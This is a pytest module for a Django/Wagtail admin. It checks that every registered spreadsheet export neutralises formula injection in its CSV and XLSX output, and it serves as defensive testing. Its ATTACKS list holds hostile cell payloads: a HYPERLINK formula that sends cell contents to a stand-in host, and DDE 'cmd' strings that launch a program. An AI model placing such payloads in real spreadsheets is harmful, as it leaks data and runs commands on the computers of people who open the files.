"""Every spreadsheet export the admin registers, ours and Wagtail's, writes safe cells.

The views are found by walking the URLconf, so an export added later is checked without
anyone remembering to add it here. Each is fed one row whose every value is a formula
(``Poison`` answers any attribute, key or call with itself) and must write it neutralised:
a leading quote in CSV, a text cell in XLSX.
"""

import ast
import csv
import io
from pathlib import Path

import openpyxl
from django.contrib.auth.models import AnonymousUser
from django.test import RequestFactory
from django.urls import URLResolver, get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from ops import spreadsheets
from ops.spreadsheets import BOM, FORMULA_START

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
]


class Poison:
    """A row, a related object, a method, a key: whatever is asked of it, it answers with
    itself, and written out it is the formula."""

    alters_data = False

    def __init__(self, formula):
        self.formula = formula

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __getitem__(self, key):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __str__(self):
        return self.formula


def export_views():
    """``{route: (view class, as_view() arguments)}`` of every export the URLconf routes to."""
    found = {}

    def walk(patterns, prefix):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                initkwargs = getattr(pattern.callback, "view_initkwargs", {})
                found[prefix + str(pattern.pattern)] = (view_class, initkwargs)

    walk(get_resolver().url_patterns, "")
    return found


def exporter(view_class, initkwargs, export_format):
    view = view_class(**initkwargs)
    request = RequestFactory().get("/", {"export": export_format})
    request.user = AnonymousUser()
    view.setup(request)
    if not view.show_export_buttons:
        return None  # offers no download
    if not view.list_export:
        # Its columns are chosen on dispatch (a form page's fields): any will do.
        view.list_export = ["poisoned"]
    view.get_filename = lambda: "export"  # some name it after what get() computed
    # A view's own conversions (Wagtail's reports turn action codes into labels) expect
    # real codes: they hand the formula on, as a label that happened to be one would be.
    view.custom_field_preprocess = {
        field: dict.fromkeys(formats, lambda value: value)
        for field, formats in view.custom_field_preprocess.items()
    }
    return view


def test_the_walk_finds_our_exports_and_wagtails():
    names = {view_class.__qualname__ for view_class, _kwargs in export_views().values()}
    assert {
        "InquiryIndexView",  # spaces
        "IndexView",  # certificates, safety records, complaints
        "AttendanceIndexView",
        "ActivityReportView",
        "ClashReportView",
        "SearchMissesReportView",
        "SearchTermsReportView",  # Wagtail's: what anonymous visitors typed
        "LogEntriesView",  # Wagtail's site history
    } <= names
    assert spreadsheets.installed()


def test_every_registered_export_neutralises_formulas():
    rows = [Poison(attack) for attack in ATTACKS]
    checked, exported = set(), set()
    for route, (view_class, initkwargs) in export_views().items():
        if (view_class, id(initkwargs)) in checked:
            continue  # the same view again, under its results URL
        checked.add((view_class, id(initkwargs)))
        where = f"{route} ({view_class.__module__}.{view_class.__qualname__})"
        if exporter(view_class, initkwargs, "csv") is None:
            continue

        response = exporter(view_class, initkwargs, "csv").write_csv_response(rows)
        assert response["Content-Type"] == "text/csv; charset=utf-8", where
        text = b"".join(response.streaming_content).decode("utf-8")
        assert text.startswith(BOM), where
        _heading, *lines = list(csv.reader(io.StringIO(text[1:], newline="")))
        assert len(lines) == len(ATTACKS), where
        for line, attack in zip(lines, ATTACKS, strict=True):
            assert "'" + attack in line, where  # the row came through, neutralised
            assert not [cell for cell in line if cell.startswith(FORMULA_START)], where

        exported.add((view_class, id(initkwargs)))
        output = io.BytesIO()
        exporter(view_class, initkwargs, "xlsx").write_xlsx(rows, output)
        sheet = openpyxl.load_workbook(output).active
        texts = 0
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", where
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s" and cell.quotePrefix, where
                texts += cell.quotePrefix
        assert texts >= len(ATTACKS), where
    assert len(exported) >= 15


def test_no_other_module_writes_spreadsheets():
    """Hand-written exports go through ops.spreadsheets.csv_response, never csv/openpyxl."""
    packages = [
        "approvals", "cms", "department", "events", "network", "opendata", "ops",
        "reports", "sitesearch", "spaces", "translations",
    ]  # fmt: skip
    offenders = []
    for package in packages:
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "ops" / "spreadsheets.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Import):
                    modules = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom):
                    modules = [node.module or ""]
                else:
                    continue
                if any(m.split(".")[0] in {"csv", "openpyxl", "xlsxwriter"} for m in modules):
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
